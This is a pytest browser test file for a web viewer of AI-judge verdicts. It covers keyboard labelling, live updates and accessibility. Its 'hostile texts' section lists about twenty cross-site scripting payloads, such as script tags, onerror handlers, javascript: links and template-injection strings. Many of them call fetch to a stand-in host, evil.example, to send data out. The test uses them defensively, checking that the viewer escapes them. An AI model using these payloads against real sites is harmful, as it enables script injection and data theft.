"""The viewer in headless Chromium: labelling by keys from end to end, hostile texts, live lists, and accessibility."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from viewing import POLITE, entry, fill, serving

from rewardanything_core import Case
from rewardanything_core.store.verdict_store import VerdictStore

pytestmark = pytest.mark.browser

RA_JUDGE = Path(sys.executable).with_name("ra-judge")
TESTS = Path(__file__).parent.parent


class Watched:
    """A page, and all that it asked for or ran that it should not.

    Args:
        browser: The browser.
        link: The link that opens the viewer.
        context: Settings of the browser's window.
    """

    def __init__(self, browser: Any, link: str, **context: Any) -> None:
        self.base = link.partition("/?")[0]
        self.context = browser.new_context(**context)
        self.page = self.context.new_page()
        self.page.set_default_timeout(60_000)
        self.alarms: list[str] = []
        self.page.on("dialog", lambda dialog: (self.alarms.append(f"dialog {dialog.message}"), dialog.dismiss()))
        self.page.on("console", lambda message: self.alarms.append(f"console {message.text}"))
        self.page.on("pageerror", lambda error: self.alarms.append(f"error {error}"))
        self.page.on("request", self._check)
        self.page.goto(link)

    def _check(self, request: Any) -> None:
        if not request.url.startswith(self.base + "/"):
            self.alarms.append(f"request {request.url}")

    def go(self, path: str) -> None:
        self.page.goto(self.base + path)


# --- from end to end


def test_twenty_cases_are_filtered_opened_labelled_by_keys_exported_and_measured(
    browser, tmp_path, monkeypatch
) -> None:
    store = tmp_path / "verdicts.sqlite3"
    fill(store)
    process = subprocess.Popen(
        [RA_JUDGE, "view", store, "--no-open"],
        stderr=subprocess.PIPE,
        text=True,
        env={**os.environ, "BROWSER": "false"},
    )
    try:
        link = next(line.split()[1] for line in process.stderr if line.startswith("Open "))
        seen = Watched(browser, link)
        page = seen.page
        page.fill("#f-q", "star")
        page.select_option("#f-model", "short/judge")
        page.get_by_role("button", name="Apply").click()
        assert "q=star" in page.url and "model=short" in page.url
        page.click("#rows a >> nth=3")
        assert "Judge it again" in page.inner_text("main")
        opened = page.url
        page.keyboard.press("j")  # the next older one
        page.wait_for_url(lambda url: "/verdict/" in url and url != opened)
        seen.go("/label?q=star")
        page.fill("#person", "Ann")
        page.keyboard.press("Enter")
        for number in range(20):
            page.wait_for_selector("#label")
            record = page.input_value("#label input[name=record]")
            assert "gpt" not in page.content() and "claude" not in page.content()
            if number == 5:
                page.keyboard.press("n")
                page.keyboard.type("1 and 2 are not scores here")
                page.keyboard.press("Escape")
            keys = [["ArrowLeft"], ["ArrowRight"], ["t"], ["4", "2"]][number % 4]
            for key in keys:
                page.keyboard.press(key)
            page.wait_for_function(
                "record => document.querySelector('#label input[name=record]')?.value !== record", arg=record
            )
        page.keyboard.press("s")
        page.wait_for_selector("#last:has-text('skipped')")
        page.keyboard.press("u")
        page.wait_for_selector("text=Ann has labelled 20 cases")
        seen.go("/labels")
        with page.expect_download() as download:
            page.click("text=labels.jsonl")
        labels = tmp_path / "labels.jsonl"
        download.value.save_as(labels)
        assert seen.alarms == []
    finally:
        process.send_signal(signal.SIGINT)
        assert process.wait(timeout=20) == 0
        process.stderr.close()
    rows = [json.loads(line) for line in labels.read_text().splitlines()]
    assert len(rows) == 20
    assert sum("human_scores" in row for row in rows) == 5
    assert [row["comment"] for row in rows if "comment" in row] == ["1 and 2 are not scores here"]
    monkeypatch.setenv("PYTHONPATH", str(TESTS))
    monkeypatch.setenv("RA_JUDGE_MODEL", "scripted:viewing:by_length")
    done = subprocess.run(
        [RA_JUDGE, "bench", "--labels", labels, "--json"], capture_output=True, text=True, cwd=tmp_path
    )
    assert done.returncode == 0, done.stderr
    report = json.loads(done.stdout)
    assert report["items"] == 20 and report["failed"] == 0
    assert report["pairwise_accuracy"]["n"] > 0 and report["labels"]["mae"]["n"] == 10


def test_new_verdicts_appear_without_reloading(browser, own_store) -> None:
    fill(own_store, pairs=2, singles=1)
    with serving(own_store) as (_, link), VerdictStore(own_store) as store:
        page = Watched(browser, link).page
        page.wait_for_selector("#live:has-text('Live')")
        page.evaluate("window.same = true")
        store.put(entry(77, ["new", "newer"], prompt="Fresh from a run"))
        page.wait_for_selector("#rows tr:first-child:has-text('Fresh from a run')")
        assert page.evaluate("window.same")


# --- hostile texts

RUN = "window.pwned=1;fetch('http://evil.example/steal')"
MARKUP = [
    f"<script>{RUN}</script>",
    f"</div></textarea></title></style><script>{RUN}</script>",
    f'<img src=x onerror="{RUN}">',
    f'<svg onload="{RUN}"><animate onbegin="{RUN}" attributeName=x dur=1s>',
    f'<body onload="{RUN}"><iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f'<a href="javascript:{RUN}" autofocus onfocus="{RUN}">x</a>',
    f'" autofocus onfocus="{RUN}" x="',
    f"'-{RUN}-'",
    "<link rel=stylesheet href=http://evil.example/x.css><style>@import 'http://evil.example/y.css'</style>",
    '<meta http-equiv=refresh content="0;url=http://evil.example"><base href=http://evil.example/>',
    "<form action=http://evil.example><button autofocus>x</button></form><input name=choice value=0>",
    "<object data=http://evil.example/x.swf></object><embed src=http://evil.example><video src=http://evil.example/v>",
    f'<details open ontoggle="{RUN}"><summary>x</summary></details>',
    f'<math><mtext></p><img src=x onerror="{RUN}"></mtext></math>',
    f'<template><script>{RUN}</script></template><noscript><p title="</noscript><img src=x onerror={RUN}>">',
    "{{ 7*7 }}{% import os %}${7*7}#{7*7}<%= 7*7 %>",
    "![x](http://evil.example/p.png) [x](javascript:alert(1)) <http://evil.example>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#x3c;img src=x onerror=alert(1)&#x3e;",
    f'<x style="animation-name:x;background:url(http://evil.example/b)" onanimationstart="{RUN}">',
    f"<svg><use href=\"data:image/svg+xml,<svg onload='{RUN}'>\"/><foreignObject><script>{RUN}</script></svg>",
]
WRAPPERS = [
    "{}",
    "before {} after",
    "<!-- {} -->",
    "]]>{}<![CDATA[",
    "\u202e{}\u202c\u2066\u200b\ufeff",
    "\x1b[31m\x1b]0;{}\x07\x9b",
    "\x00{}\x08\x0c\x7f\u2028\u2029",
    "{0}{0}{0}",
    "`{}` \"{}\" '{}'",
    "\r\n\t{}\ufffe\U000e0041",
]
PAYLOADS = [wrapper.format(*[payload] * 3) for wrapper in WRAPPERS for payload in MARKUP]


def test_two_hundred_payloads_run_nothing_and_fetch_nothing(browser, own_store, tmp_path) -> None:
    assert len(set(PAYLOADS)) == 200
    with VerdictStore(own_store) as store:
        for number in range(20):
            texts = PAYLOADS[10 * number : 10 * number + 10]
            made = entry(number, texts, prompt=texts[0], principle=texts[1], reasoning="\n".join(texts))
            case = Case(made.case.principle, made.case.prompt, made.case.responses, texts[2], texts[3], texts[4])
            store.put(type(made)(**{**vars(made), "case": case, "model": texts[5], "template_hash": texts[6]}))
        long = "<b>" + "A" * 5_000_000
        store.put(entry(500, [long, long + "B"], prompt=long, reasoning=long))
        surrogate = entry(501, ["plain", "text"], reasoning="\ud800<script>" + RUN)
        store.put(surrogate)
    rows = tmp_path / "judged.jsonl"
    rows.write_text(
        json.dumps({"prompt": "\ud800" + PAYLOADS[0], "response": PAYLOADS[2], "scores": {"0": 3}, "principle": POLITE})
        + "\n"
    )
    rows.with_name("judged.jsonl.run.json").write_text(
        json.dumps({"columns": {"principle": "principle"}, "prefix": ""})
    )
    with serving(own_store, rows) as (viewer, link):
        assert viewer.follower.indexed == 23
        seen = Watched(browser, link)
        page = seen.page
        records = [a.get_attribute("href") for a in page.query_selector_all("#rows a")]
        assert len(records) == 23
        for path in [*records, "/?q=script", "/charts", "/compare?by=principle", "/labels"]:
            seen.go(path)
            page.evaluate("document.querySelectorAll('details').forEach(each => { each.open = true })")
            inside = page.evaluate(
                "[...new Set([...document.querySelectorAll('.text *, .principle *, h1 *, td *')].map(e => e.tagName))]"
            )
            allowed = "SPAN INS DEL MARK EM B STRONG A SMALL TIME DETAILS SUMMARY svg rect text title"
            assert set(inside) <= set(allowed.split()), path
        for record in records:
            seen.go(f"/label?person=Ann&record={record.rpartition('/')[2]}")
            page.keyboard.press("Tab")
        seen.go(records[1] if "text" in records[1] else f"{records[1]}/text/response-0")
        assert page.evaluate("typeof window.pwned") == "undefined"
        assert seen.alarms == []
        page.goto("about:blank")
        page.set_content(PAYLOADS[2])  # a page that does not escape it: the alarms work
        page.wait_for_function("window.pwned")
        assert "request http://evil.example/steal" in seen.alarms


# --- for people


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_axe_finds_nothing_serious_and_a_phone_need_not_scroll_sideways(browser, own_store, scheme) -> None:
    from axe_playwright_python.sync_playwright import Axe

    fill(own_store)
    axe = Axe()
    with serving(own_store) as (_, link):
        width = 400 if scheme == "dark" else 1100
        seen = Watched(browser, link, color_scheme=scheme, viewport={"width": width, "height": 800}, bypass_csp=True)
        page = seen.page
        records = [a.get_attribute("href") for a in page.query_selector_all("#rows a")]
        label = "/label?person=Ann&q=star&blind=0"
        seen.go(label)
        page.keyboard.press("ArrowLeft")
        page.wait_for_selector("#last")
        for path in (
            "/?q=star&disagree=jurors&by=0.5",
            *records[:4],
            records[15],
            "/label",
            label,
            "/labels",
            "/compare",
            "/charts",
            "/nothing",
        ):
            seen.go(path)
            found = axe.run(page, options={"runOnly": ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "best-practice"]})
            serious = [each for each in found.response["violations"] if each["impact"] in ("serious", "critical")]
            assert not serious, (path, [(one["id"], [node["html"][:200] for node in one["nodes"]]) for one in serious])
            assert page.evaluate("document.documentElement.scrollWidth") <= width, path


def test_everything_can_be_reached_by_keys(browser, own_store) -> None:
    fill(own_store, pairs=3, singles=1)
    with serving(own_store) as (_, link):
        page = Watched(browser, link).page
        page.keyboard.press("Tab")
        assert page.evaluate("document.activeElement.textContent") == "Skip to the content"
        page.keyboard.press("/")
        assert page.evaluate("document.activeElement.id") == "f-q"
        page.keyboard.press("Escape")
        page.evaluate("document.activeElement.blur()")
        page.keyboard.press("j")
        page.keyboard.press("Enter")
        page.wait_for_url("**/verdict/**")
